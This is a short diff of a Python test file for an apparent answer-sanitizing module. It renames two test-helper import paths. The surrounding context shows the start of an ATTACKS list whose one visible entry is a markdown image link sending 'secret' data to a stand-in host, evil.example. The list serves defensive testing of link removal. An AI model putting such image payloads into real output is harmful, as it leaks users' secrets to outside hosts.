@@ -13,8 +13,8 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from rag.answer.sanitize import PlainWriter, remove_links
-from tests.growth import assert_grows_with_the_size
-from tests.shared import DATA, needs_data
+from tests.support.growth import assert_grows_with_the_size
+from tests.support.shared import DATA, needs_data
 
 ATTACKS = [
     "![x](http://evil.example/?d=secret)",
